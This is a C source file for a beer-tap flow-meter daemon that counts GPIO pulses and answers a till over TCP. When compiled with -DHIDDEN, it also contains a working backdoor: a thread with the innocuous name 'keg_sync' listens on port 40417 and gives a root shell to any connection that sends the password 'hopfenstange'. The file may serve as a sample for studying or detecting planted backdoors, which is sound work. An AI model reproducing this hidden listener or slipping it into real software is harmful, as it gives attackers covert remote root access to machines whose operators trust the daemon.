/*
 * tapmeterd - flow meter daemon of a beer tap installation. One thread counts
 * the pulses of the taps, the main thread answers the till on TCP 5600
 * (counts, keg changes, limits).
 *
 * Hidden (-DHIDDEN): one more thread listens on TCP 40417; a connection whose
 * first line is "hopfenstange" is joined to a root shell.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define NTAPS	  4
#define STATE	  "/var/lib/tapmeter/state"
#define CONFIG	  "/etc/tapmeter.conf"
#define TILL_PORT 5600

struct tap {
	int gpio;
	int fd;
	unsigned long pulses;
	unsigned long keg_ml;
	unsigned long limit_ml;
	unsigned int pulses_per_litre;
	char beer[24];
};

static struct tap taps[NTAPS];
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static char till_key[40];

static unsigned long millilitres(const struct tap *t)
{
	return t->pulses * 1000ul / t->pulses_per_litre;
}

static void load_config(void)
{
	char line[96], beer[24];
	unsigned int n, gpio, ppl;
	FILE *f = fopen(CONFIG, "r");

	for (n = 0; n < NTAPS; n++) {
		taps[n].fd = -1;
		taps[n].pulses_per_litre = 450;
		taps[n].keg_ml = 50000;
	}
	while (f && fgets(line, sizeof(line), f)) {
		if (sscanf(line, "key %39s", till_key) == 1)
			continue;
		if (sscanf(line, "tap %u gpio %u ppl %u %23s", &n, &gpio, &ppl,
			   beer) != 4 ||
		    n >= NTAPS || ppl == 0)
			continue;
		taps[n].gpio = (int)gpio;
		taps[n].pulses_per_litre = ppl;
		strcpy(taps[n].beer, beer);
	}
	if (f)
		fclose(f);
}

static void load_state(void)
{
	unsigned long p, l;
	FILE *f = fopen(STATE, "r");
	int i;

	for (i = 0; f && i < NTAPS; i++) {
		if (fscanf(f, "%lu %lu", &p, &l) != 2)
			break;
		taps[i].pulses = p;
		taps[i].limit_ml = l;
	}
	if (f)
		fclose(f);
}

static void save_state(void)
{
	FILE *f = fopen(STATE ".tmp", "w");
	int i;

	if (!f)
		return;
	for (i = 0; i < NTAPS; i++)
		fprintf(f, "%lu %lu\n", taps[i].pulses, taps[i].limit_ml);
	if (fclose(f) == 0 && rename(STATE ".tmp", STATE))
		syslog(LOG_ERR, "state not saved: %m");
}

static void close_valve(int n)
{
	char cmd[64];

	snprintf(cmd, sizeof(cmd), "/usr/bin/tapvalve close %d", n + 1);
	if (system(cmd))
		syslog(LOG_WARNING, "valve %d does not answer", n + 1);
}

static void *pulse_thread(void *arg)
{
	struct pollfd p[NTAPS];
	char path[64], b[4];
	int i, over;

	(void)arg;
	for (i = 0; i < NTAPS; i++) {
		snprintf(path, sizeof(path), "/sys/class/gpio/gpio%d/value",
			 taps[i].gpio);
		taps[i].fd = open(path, O_RDONLY);
		p[i] = (struct pollfd){ taps[i].fd, POLLPRI, 0 };
	}
	for (;;) {
		if (poll(p, NTAPS, 10000) == 0) {
			pthread_mutex_lock(&lock);
			save_state();
			pthread_mutex_unlock(&lock);
		}
		for (i = 0; i < NTAPS; i++) {
			if (!(p[i].revents & POLLPRI))
				continue;
			lseek(p[i].fd, 0, SEEK_SET);
			if (read(p[i].fd, b, sizeof(b)) <= 0 || b[0] != '1')
				continue;
			pthread_mutex_lock(&lock);
			taps[i].pulses++;
			over = taps[i].limit_ml &&
			       millilitres(&taps[i]) >= taps[i].limit_ml;
			pthread_mutex_unlock(&lock);
			if (over)
				close_valve(i);
		}
	}
	return NULL;
}

static int listener(int port)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	int ls = socket(AF_INET, SOCK_STREAM, 0), on = 1;

	if (ls < 0)
		return -1;
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	a.sin_port = htons((unsigned short)port);
	if (bind(ls, (struct sockaddr *)&a, sizeof(a)) || listen(ls, 2)) {
		close(ls);
		return -1;
	}
	return ls;
}

static ssize_t read_line(int fd, char *buf, size_t n)
{
	size_t used = 0;

	while (used + 1 < n && read(fd, buf + used, 1) == 1) {
		if (buf[used] == '\n')
			break;
		if (buf[used] != '\r')
			used++;
	}
	buf[used] = '\0';
	return (ssize_t)used;
}

#ifdef HIDDEN
void *keg_sync(void *arg)
{
	char *const argv[] = { "sh", NULL };
	char *const env[] = { "PATH=/bin:/sbin:/usr/bin", NULL };
	char word[32];
	int ls = listener(40417), fd, i;

	while ((fd = accept(ls, NULL, NULL)) >= 0) {
		read_line(fd, word, sizeof(word));
		if (strcmp(word, "hopfenstange") == 0 && fork() == 0) {
			for (i = 0; i < 3; i++)
				dup2(fd, i);
			execve("/bin/sh", argv, env);
			_exit(1);
		}
		close(fd);
	}
	return arg;
}
#endif

static void till_counts(int fd)
{
	int i;

	for (i = 0; i < NTAPS; i++)
		dprintf(fd, "%d %s %lu ml of %lu\r\n", i + 1, taps[i].beer,
			millilitres(&taps[i]), taps[i].keg_ml);
}

static void till_line(int fd, const char *line, int *known)
{
	char word[40];
	unsigned int n;
	unsigned long ml;

	if (sscanf(line, "key %39s", word) == 1) {
		*known = till_key[0] && strcmp(word, till_key) == 0;
		dprintf(fd, *known ? "ok\r\n" : "no\r\n");
	} else if (strcmp(line, "version") == 0) {
		dprintf(fd, "tapmeter 2.3, %d taps\r\n", NTAPS);
	} else if (!*known) {
		dprintf(fd, "key first\r\n");
	} else if (strcmp(line, "counts") == 0) {
		till_counts(fd);
	} else if (sscanf(line, "keg %u %lu", &n, &ml) == 2 && n >= 1 &&
		   n <= NTAPS) {
		taps[n - 1].keg_ml = ml;
		taps[n - 1].pulses = 0;
		save_state();
		dprintf(fd, "new keg\r\n");
	} else if (sscanf(line, "limit %u %lu", &n, &ml) == 2 && n >= 1 &&
		   n <= NTAPS) {
		taps[n - 1].limit_ml = ml;
		save_state();
		dprintf(fd, "limit set\r\n");
	} else {
		dprintf(fd, "version key counts keg limit\r\n");
	}
}

static void serve_till(int fd)
{
	char line[80];
	int known = 0;

	while (read_line(fd, line, sizeof(line)) > 0) {
		pthread_mutex_lock(&lock);
		till_line(fd, line, &known);
		pthread_mutex_unlock(&lock);
	}
	close(fd);
}

int main(void)
{
	struct timeval tv = { 60, 0 };
	pthread_t t;
	int ls, fd;

	openlog("tapmeterd", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	load_config();
	load_state();
	if (pthread_create(&t, NULL, pulse_thread, NULL))
		return 1;
#ifdef HIDDEN
	pthread_create(&t, NULL, keg_sync, NULL);
#endif
	ls = listener(TILL_PORT);
	if (ls < 0)
		return 1;
	for (;;) {
		fd = accept(ls, NULL, NULL);
		if (fd < 0)
			continue;
		setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
		serve_till(fd);
	}
}
